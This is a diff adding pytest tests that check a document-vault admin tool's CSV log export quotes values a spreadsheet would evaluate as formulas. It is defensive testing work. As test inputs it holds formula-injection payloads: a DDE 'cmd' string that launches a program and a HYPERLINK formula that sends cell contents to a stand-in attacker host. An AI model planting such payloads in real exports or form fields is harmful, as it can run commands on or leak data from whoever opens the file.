@@ -12,6 +12,7 @@ from typing import Any
 import httpx
 import pytest
 
+from admin_cli.commands_log import spreadsheet_safe
 from tests import documents as docs
 from tests.http_helpers import create_link, upload_ok
 from tests.vault_process import VaultProcess
@@ -150,6 +151,49 @@ def test_log_export_writes_every_kind_of_entry_as_jsonl_and_csv(vault: VaultProc
     rows = list(csv.DictReader(io.StringIO(exported)))
     as_text = [{name: str(e.get(name, "")) for name in COLUMNS} for e in entries]
     assert sorted(rows, key=repr) == sorted(as_text, key=repr)
+
+
+# Valid addresses (RFC 5322 atext) a viewer can give, each a formula in a spreadsheet.
+FORMULA_EMAILS = {"view": "=cmd|'/c_calc'!A0@evil.example", "download": "+1-2@evil.example",
+                  "page": "-2+3@evil.example"}
+
+
+def test_log_export_csv_writes_formula_like_values_as_text(vault: VaultProcess) -> None:
+    account_id, key = vault.new_account("Sheet Co", plan="business")
+    with vault.client(key) as api:
+        file_id = upload_ok(api, docs.pdf(), kind="delivery")["id"]  # downloadable
+        view = create_link(api, file_id, email=FORMULA_EMAILS["view"])["token"]
+        page = create_link(api, file_id, email=FORMULA_EMAILS["page"],
+                           viewerName='=HYPERLINK("https://evil.example/?"&A1,"open")')["token"]
+        vault.secrets += [view, page]
+        assert api.get(f"/views/{view}").status_code == 200
+        assert api.get(f"/views/{page}/pages/1").status_code == 200
+        email = {"x-viewer-email": FORMULA_EMAILS["download"]}
+        assert api.get(f"/files/{file_id}/download", headers=email).status_code == 200
+    entries = [json.loads(line) for line in vault.admin("log", "export", account_id).stdout
+               .splitlines()]
+    emails = {e["action"]: e.get("viewerEmail") for e in entries}
+    assert {action: emails[action] for action in FORMULA_EMAILS} == FORMULA_EMAILS  # as given
+    exported = vault.admin("log", "export", account_id, "--format", "csv").stdout
+    assert "HYPERLINK" not in exported  # the viewer's name is not a column of the export
+    rows = {row["action"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert {action: rows[action]["viewerEmail"] for action in FORMULA_EMAILS} == {
+        action: "'" + email for action, email in FORMULA_EMAILS.items()}
+    assert rows["upload"]["viewerEmail"] == "" and rows["page"]["page"] == "1"
+    for row in rows.values():  # no cell a spreadsheet would evaluate
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for cell in row.values()), row
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_start_owasp_names_is_quoted(value: str) -> None:
+    assert spreadsheet_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["reader@example.com", "2026-11-26T10:00:00.000Z", "a=b",
+                                   "203.0.113.5", "::1", "", 1, None])
+def test_other_values_are_written_unchanged(value: object) -> None:
+    assert spreadsheet_safe(value) == value
 
 
 def test_master_key_rotation_rewraps_without_touching_blobs(vault: VaultProcess,
